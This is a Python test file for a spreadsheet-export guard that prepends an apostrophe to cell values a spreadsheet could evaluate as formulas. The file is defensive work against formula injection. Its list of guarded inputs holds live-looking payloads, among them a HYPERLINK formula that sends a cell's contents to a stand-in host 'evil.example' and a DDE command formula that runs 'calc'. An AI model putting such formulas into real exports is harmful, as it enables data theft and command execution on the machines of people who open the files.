"""The formula guard: what a spreadsheet could evaluate gets a leading apostrophe, nothing else."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.exports.guard import FORMULA_TRIGGERS, formula_safe, is_formula_like

GUARDED = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "+41 79 123 45 67",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading cr",
    "\x00nul",
    " =1+1",
    "\u00a0\u00a0=1",
    "\n-2",
    "\u200b=1",
    "\ufeff \u200b @x",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]

LEFT_ALONE = [
    "",
    " ",
    "Zoë Müller",
    "alice@example.org",
    "a=1",
    "1+1",
    "1-2",
    '"=1"',
    "'=1",
    "A-12",
    "(=1)",
    "   plain",
]


@pytest.mark.parametrize("value", GUARDED)
def test_a_formula_like_cell_gets_one_leading_apostrophe(value: str) -> None:
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", LEFT_ALONE)
def test_a_cell_no_spreadsheet_evaluates_is_unchanged(value: str) -> None:
    assert formula_safe(value) == value


def test_every_trigger_character_is_guarded_first_and_after_blanks() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert is_formula_like(trigger + "x")
        # TAB and CR are blanks themselves: after other blanks they are trimmed like them.
        assert is_formula_like("  " + trigger + "x") is not trigger.isspace()


@given(st.text())
def test_the_guard_is_idempotent_and_only_ever_prepends(value: str) -> None:
    once = formula_safe(value)
    assert formula_safe(once) == once
    assert once in (value, "'" + value)


@given(st.text())
def test_no_guarded_value_starts_with_a_trigger_even_when_trimmed(value: str) -> None:
    assert not is_formula_like(formula_safe(value))


def test_a_ten_megabyte_value_is_guarded_in_time() -> None:
    value = " " * 10_000_000 + "=1"
    assert formula_safe(value).startswith("' ")
